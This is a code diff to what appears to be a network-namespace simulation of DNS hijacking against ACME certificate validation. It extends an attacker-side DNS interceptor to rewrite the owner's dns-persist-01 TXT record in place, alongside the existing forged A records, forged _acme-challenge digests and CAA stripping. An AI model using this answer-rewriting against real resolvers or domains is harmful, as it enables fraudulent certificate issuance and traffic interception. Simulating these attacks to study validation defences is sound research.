@@ -9,7 +9,9 @@ namespace (simnet.in_netns), so it serves only that namespace's addresses:
 - DnsInterceptor: the attacker's DNS on the victim's name-server addresses. It forwards every
   query to the victim's real server (over the attacker's own path) and, per mode, rewrites
   the answer in place: "forge" replaces A rdata with the attacker's web address and
-  _acme-challenge TXT with the attacker's digest and strips CAA; "strip-caa" only strips CAA.
+  _acme-challenge TXT with the attacker's digest, the owner's dns-persist-01 record
+  (_validation-persist TXT) with one naming the attacker's account, and strips CAA;
+  "strip-caa" only strips CAA.
   Signed zones: the victim's RRSIGs no longer match (or NSEC proves the CAA exists), so a
   validating resolver sees bogus data.
 - DelayRelay: the attacker's delaying relay (attack kind "delay") on the relay host, which holds
@@ -203,10 +205,13 @@ def forward_query(up, query, upstream, timeout=1.0):
 class DnsInterceptor:
     """The attacker's DNS on one hijacked name-server address (UDP)."""
 
-    def __init__(self, netns, listen, upstream, forged_a, forged_txt):
+    def __init__(self, netns, listen, upstream, forged_a, forged_txt, forged_persist=None):
+        """forged_persist(width): the attacker's dns-persist-01 value of exactly `width`
+        octets, or None when it cannot be made that long (the record is then left alone)."""
         self.upstream = (upstream, 53)
         self.forged_a = socket.inet_aton(forged_a)
         self.forged_txt = forged_txt.encode()
+        self.forged_persist = forged_persist
         self.mode = "forge"
         self.stopping = threading.Event()
         with in_netns(netns):
@@ -261,6 +266,14 @@ class DnsInterceptor:
             elif (rtype == TYPE_TXT and owner.startswith("_acme-challenge.")
                   and length == 1 + len(self.forged_txt)):
                 r[off + 1:off + length] = self.forged_txt
+            elif (rtype == TYPE_TXT and owner.startswith("_validation-persist.")
+                  and self.forged_persist is not None and 1 < length <= 256
+                  and reply[off] == length - 1):
+                # One character-string: replaced in place by the attacker's record padded to
+                # the same length, so no offset or compression pointer moves.
+                forged = self.forged_persist(length - 1)
+                if forged is not None:
+                    r[off + 1:off + length] = forged.encode()
         return bytes(r)
 
     def stop(self):
